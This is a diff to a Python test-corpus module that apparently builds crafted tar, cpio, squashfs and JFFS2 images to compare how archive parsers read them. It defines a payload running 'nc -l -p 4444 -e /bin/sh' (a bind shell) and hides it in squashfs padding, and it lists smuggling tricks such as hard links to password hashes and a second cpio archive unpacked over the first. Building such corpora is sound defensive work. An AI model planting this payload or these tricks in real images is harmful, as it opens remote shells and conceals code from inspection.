@@ -1,4 +1,4 @@
-"""Attacks on archives and file systems that one format alone allows: what its consumers read otherwise than its tools."""
+"""Attacks on archives and file systems that one format alone allows."""
 
 from __future__ import annotations
 
@@ -12,8 +12,6 @@ from banbury.compare.corpus.writers import cpio, jffs2, squashfs, tar
 
 EVIL = b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"
 _NOTHING: frozenset[str] = frozenset()
-
-
 
 
 # --- tar -------------------------------------------------------------------------------------------------------------
@@ -134,7 +132,10 @@ def cpio_name_slack() -> Made:
     node = Node(data=b"Welcome\n", mtime=aged(base())["etc/motd"].mtime)
     name = "etc/motd\0hidden words"
     tree = aged(base())
-    records = [cpio.member(name if p == "etc/motd" else p, node if p == "etc/motd" else n, 1 + i) for i, (p, n) in enumerate(tree.items())]
+    records = [
+        cpio.member(name if p == "etc/motd" else p, node if p == "etc/motd" else n, 1 + i)
+        for i, (p, n) in enumerate(tree.items())
+    ]
     out = b"".join(records) + cpio.member("TRAILER!!!", Node(mtime=0), 0, mode=0)
     return _cpio(out + bytes(-len(out) % 512), changes=None, good=False)
 
@@ -187,14 +188,14 @@ def squash_flags() -> Made:
     """The superblock says that there are no extended attributes to look for, and more that readers ignore."""
     clean = _squash_clean()
     flags = struct.unpack_from("<H", clean, 24)[0]
-    return Patch(clean).put(24, struct.pack("<H", flags | 0x8000)).made(squashfs.write(base()), changes=_NOTHING)
+    return Patch(clean).put(24, struct.pack("<H", flags | 0x8000)).made(squashfs.write(base()), changes=None)
 
 
 def squash_size() -> Made:
     """``bytes_used`` counts the padding too, so that it looks owned, and something is in it."""
     clean = _squash_clean()
     patch = Patch(clean).put(40, struct.pack("<Q", len(clean)))
-    return patch.put(len(clean) - 64, EVIL).made(squashfs.write(base()), changes=None)
+    return patch.put(len(clean) - 64, EVIL).made(squashfs.write(base()), changes=None, well_formed=False)
 
 
 # --- JFFS2 -----------------------------------------------------------------------------------------------------------
@@ -284,7 +285,13 @@ TRICKS = (
     ("tar", "header-slack", "hidden-space", "Unused bytes of a header hold something.", tar_header_slack),
     ("tar", "checksum", "checksum", "A header's checksum is wrong.", tar_checksum),
     ("tar", "hardlink", "attribute", "A text is a hard link to the password hashes.", tar_hardlink),
-    ("cpio", "second", "extra-member", "A second archive follows, which the kernel unpacks over the first.", cpio_second),
+    (
+        "cpio",
+        "second",
+        "extra-member",
+        "A second archive follows, which the kernel unpacks over the first.",
+        cpio_second,
+    ),
     ("cpio", "packed-second", "extra-member", "A compressed second archive follows.", cpio_packed_second),
     ("cpio", "duplicate", "extra-member", "A later member of the same name replaces a script.", cpio_duplicate),
     ("cpio", "tail", "trailing", "Bytes stand behind the end mark.", cpio_tail),
